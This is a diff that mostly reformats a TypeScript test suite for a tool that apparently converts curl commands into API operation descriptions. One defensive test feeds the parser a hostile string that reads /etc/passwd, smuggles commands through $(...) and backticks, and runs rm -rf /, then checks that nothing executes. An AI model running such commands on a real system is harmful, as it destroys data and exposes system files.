@@ -32,7 +32,8 @@ suite('a text is told to be commands', () => {
     'curl: a tool',
     'we like to curl',
   ])
-    test(`and not: ${JSON.stringify(text)}`, async () => assert.notEqual((await importApi({ text })).api?.format, 'curl'));
+    test(`and not: ${JSON.stringify(text)}`, async () =>
+      assert.notEqual((await importApi({ text })).api?.format, 'curl'));
 });
 
 suite('commands become operations', () => {
@@ -81,16 +82,20 @@ suite('commands become operations', () => {
   });
 
   test('names in the query without a value tell operations apart', async () => {
-    assert.deepEqual(idsOf(await read("curl 'https://x.example/files?acl'\ncurl 'https://x.example/files?tags&max=3'")), [
-      'GET /files?acl',
-      'GET /files?tags',
-    ]);
+    assert.deepEqual(
+      idsOf(
+        await read("curl 'https://x.example/files?acl'\ncurl 'https://x.example/files?tags&max=3'"),
+      ),
+      ['GET /files?acl', 'GET /files?tags'],
+    );
   });
 
   test('the same command again adds nothing but what differs', async () => {
     const api = await read('curl https://x.example/a?b=1\ncurl "https://x.example/a?b=2&c=x"');
     assert.deepEqual(
-      api.operations.map(({ parameters }) => parameters.map(({ name, required }) => [name, required])),
+      api.operations.map(({ parameters }) =>
+        parameters.map(({ name, required }) => [name, required]),
+      ),
       [
         [
           ['b', true],
@@ -118,14 +123,20 @@ suite('pages print them', () => {
     const api = await read(
       `Here's a list:\n\n\`\`\`bash\n$ curl 'https://x.example/a?limit=10' | jq '.[] | .id'\n\`\`\`\n\nDon't forget:\n\n~~~\n$ curl https://x.example/a/42\n{\n  "id": 42, "name": "it's"\n}\n~~~\n`,
     );
-    assert.deepEqual([idsOf(api), said(api)], [['GET /a', 'GET /a/{aId}'], ['requests_left_out calls.sh line 1']]);
+    assert.deepEqual(
+      [idsOf(api), said(api)],
+      [['GET /a', 'GET /a/{aId}'], ['requests_left_out calls.sh line 1']],
+    );
   });
 
   test('for cmd.exe, as browsers copy them', async () => {
     const api = await read(
       'curl ^"https://x.example/a^" ^\n  -H ^"accept: application/json^" ^\n  --data-raw ^"^{^\\^"title^\\^":^\\^"b^\\^"^}^"',
     );
-    assert.deepEqual(api.operations[0]?.body?.contents[0]?.schema, { type: 'object', properties: { title: { type: 'string' } } });
+    assert.deepEqual(api.operations[0]?.body?.contents[0]?.schema, {
+      type: 'object',
+      properties: { title: { type: 'string' } },
+    });
   });
 });
 
@@ -144,13 +155,19 @@ suite('a bad corner costs its command', () => {
   });
 
   test('an open quote too', async () => {
-    const api = await read('curl https://x.example/a\ncurl "https://x.example/b\ncurl https://x.example/c');
-    assert.deepEqual([idsOf(api), said(api)], [['GET /a', 'GET /c'], ['operation_unusable calls.sh line 2']]);
+    const api = await read(
+      'curl https://x.example/a\ncurl "https://x.example/b\ncurl https://x.example/c',
+    );
+    assert.deepEqual(
+      [idsOf(api), said(api)],
+      [['GET /a', 'GET /c'], ['operation_unusable calls.sh line 2']],
+    );
   });
 });
 
 test('nothing is run, and no file is read', async () => {
-  const text = 'curl https://x.example/a -d @/etc/passwd -H "X-A: $(cat /etc/passwd)" -F "x=`id`"; rm -rf /; curl file:///etc/passwd';
+  const text =
+    'curl https://x.example/a -d @/etc/passwd -H "X-A: $(cat /etc/passwd)" -F "x=`id`"; rm -rf /; curl file:///etc/passwd';
   const api = await read(text);
   assert.ok(!JSON.stringify(api.operations).includes('root:'));
   assert.ok(api.problems.some(({ message }) => message === 'Its address is no http or https URL.'));
@@ -158,7 +175,12 @@ test('nothing is run, and no file is read', async () => {
 
 test('fifty thousand commands are read in time, the first five thousand of them', async () => {
   const cost = startCost();
-  const api = await read(Array.from({ length: 50_000 }, (_, i) => `curl https://x.example/a${'bcdefghij'[i % 9]}?x=${i}`).join('\n'));
+  const api = await read(
+    Array.from(
+      { length: 50_000 },
+      (_, i) => `curl https://x.example/a${'bcdefghij'[i % 9]}?x=${i}`,
+    ).join('\n'),
+  );
   assert.ok(cost() < 60_000);
   assert.equal(api.operations.length, 9);
 });
